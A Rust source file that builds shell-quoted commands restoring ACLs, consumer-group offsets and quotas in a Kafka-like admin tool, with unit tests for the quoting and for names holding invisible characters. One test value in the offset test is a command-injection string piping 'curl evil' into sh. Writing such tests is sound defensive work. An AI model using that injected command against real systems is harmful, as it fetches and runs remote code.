//! Commands that restore what a page has removed, quoted for a shell.

use std::collections::BTreeMap;

use thalweg_security::shell::quoted;
use thalweg_security::visible::is_unseen;

use crate::cluster::access::AclLine;

/// The restoration of what a page removes.
#[derive(Clone, Debug)]
pub struct Restoration {
    command: String,
    /// The condition under which the command succeeds, behind a space; empty without one.
    pub condition: &'static str,
}

impl Restoration {
    /// The command; `None` if a name in it has invisible characters. Pages show such characters as escapes,
    /// so the copied command would restore another name.
    pub fn command(&self) -> Option<&str> {
        (!self.command.contains(is_unseen)).then_some(self.command.as_str())
    }
}

/// The command that creates an ACL.
pub fn of_acl(acl: &AclLine) -> Restoration {
    let mut command = ShellCommand::new("thalweg security acl add");
    match acl.resource_type.as_str() {
        "CLUSTER" => command.flag("cluster"),
        resource_type => {
            command.option(&resource_type.to_lowercase().replace('_', "-"), &acl.resource_name);
            if acl.pattern_type == "PREFIXED" {
                command.flag("prefixed");
            }
        }
    }
    command.option(&acl.permission.to_lowercase(), &acl.operation.to_lowercase());
    if acl.host != "*" {
        command.option("host", &acl.host);
    }
    Restoration { command: command.ending_with(&acl.principal), condition: "" }
}

/// The command that commits an offset of a group.
pub fn of_offset(group: &str, topic: &str, partition: i32, offset: i64) -> Restoration {
    let mut command = ShellCommand::new("thalweg group reset");
    command.option("topic", &format!("{topic}:{partition}"));
    command.option("to-offset", &offset.to_string());
    command.flag("execute");
    Restoration { command: command.ending_with(group), condition: " once the group has no members" }
}

/// The command that sets a quota of an entity: names of `user`, `client-id` and `ip`, and none for the
/// default.
pub fn of_quota(entity: &BTreeMap<String, Option<String>>, limit: &str, value: f64) -> Restoration {
    let mut command = ShellCommand::new("thalweg quota set");
    for (kind, name) in entity {
        match name {
            Some(name) => command.option(kind, name),
            None => command.option("default", kind),
        }
    }
    Restoration { command: command.ending_with(&format!("{limit}={value}")), condition: "" }
}

/// A command for a shell.
struct ShellCommand(String);

impl ShellCommand {
    fn new(command: &str) -> ShellCommand {
        ShellCommand(command.to_owned())
    }

    fn flag(&mut self, name: &str) {
        self.0.push_str(" --");
        self.0.push_str(name);
    }

    /// Adds an option with its value. A value may look like an option itself.
    fn option(&mut self, name: &str, value: &str) {
        self.flag(name);
        self.0.push(if value.starts_with('-') { '=' } else { ' ' });
        self.0.push_str(&quoted(value));
    }

    /// The whole command, with its argument at the end.
    fn ending_with(mut self, argument: &str) -> String {
        self.0.push_str(if argument.starts_with('-') { " -- " } else { " " });
        self.0.push_str(&quoted(argument));
        self.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_acl_comes_back_by_its_command() {
        let acl = |resource_type: &str, resource_name: &str, pattern_type: &str, operation: &str| AclLine {
            resource_type: resource_type.to_owned(),
            resource_name: resource_name.to_owned(),
            pattern_type: pattern_type.to_owned(),
            principal: "User:alice".to_owned(),
            host: "*".to_owned(),
            operation: operation.to_owned(),
            permission: "ALLOW".to_owned(),
        };
        for (acl, command) in [
            (acl("TOPIC", "orders", "LITERAL", "READ"), "--topic orders --allow read User:alice"),
            (
                acl("GROUP", "a 'b'", "PREFIXED", "ALL"),
                r"--group 'a '\''b'\''' --prefixed --allow all User:alice",
            ),
            (
                acl("CLUSTER", "kafka-cluster", "LITERAL", "DESCRIBE_CONFIGS"),
                "--cluster --allow describe_configs User:alice",
            ),
            (
                acl("TRANSACTIONAL_ID", "-x", "LITERAL", "WRITE"),
                "--transactional-id=-x --allow write User:alice",
            ),
            (
                acl("DELEGATION_TOKEN", "*", "LITERAL", "DESCRIBE"),
                "--delegation-token '*' --allow describe User:alice",
            ),
            (
                acl("USER", "User:bob", "LITERAL", "CREATE_TOKENS"),
                "--user User:bob --allow create_tokens User:alice",
            ),
            (
                AclLine {
                    principal: "User:*".to_owned(),
                    host: "10.0.0.7".to_owned(),
                    permission: "DENY".to_owned(),
                    ..acl("TOPIC", "*", "LITERAL", "ALL")
                },
                "--topic '*' --deny all --host 10.0.0.7 'User:*'",
            ),
        ] {
            let expected = format!("thalweg security acl add {command}");
            assert_eq!(of_acl(&acl).command(), Some(expected.as_str()));
        }
    }

    #[test]
    fn an_offset_comes_back_by_its_command() {
        for (group, last) in [
            ("billing", "billing"),
            ("--all", "-- --all"),
            ("", "''"),
            ("a;b", "'a;b'"),
            ("=ls", "'=ls'"),
            ("a=b%", "a=b%"),
            ("%self", "'%self'"),
            (r"x\';curl evil|sh #", r"'x'\\''\'';curl evil|sh #'"),
            (r"a\", r"'a'\\''"),
        ] {
            let command = format!("thalweg group reset --topic orders:3 --to-offset 42 --execute {last}");
            assert_eq!(of_offset(group, "orders", 3, 42).command(), Some(command.as_str()));
        }
    }

    #[test]
    fn a_quota_comes_back_by_its_command() {
        let entity = |parts: &[(&str, Option<&str>)]| {
            let parts = parts.iter().map(|(kind, name)| ((*kind).to_owned(), name.map(str::to_owned)));
            parts.collect::<BTreeMap<_, _>>()
        };
        for (entity, command) in [
            (entity(&[("user", Some("ann"))]), "--user ann"),
            (entity(&[("user", Some("-x")), ("client-id", None)]), "--default client-id --user=-x"),
            (entity(&[("ip", Some("10.0.0.7"))]), "--ip 10.0.0.7"),
            (entity(&[("client-id", Some("a b"))]), "--client-id 'a b'"),
        ] {
            let command = format!("thalweg quota set {command} producer_byte_rate=1048576.5");
            let found = of_quota(&entity, "producer_byte_rate", 1_048_576.5);
            assert_eq!(found.command(), Some(command.as_str()));
        }
    }

    #[test]
    fn a_name_with_invisible_characters_has_no_command() {
        for group in ["bil\u{200b}ling", "a\nb", "\u{200d}"] {
            assert_eq!(of_offset(group, "orders", 3, 42).command(), None, "{group:?}");
        }
    }
}
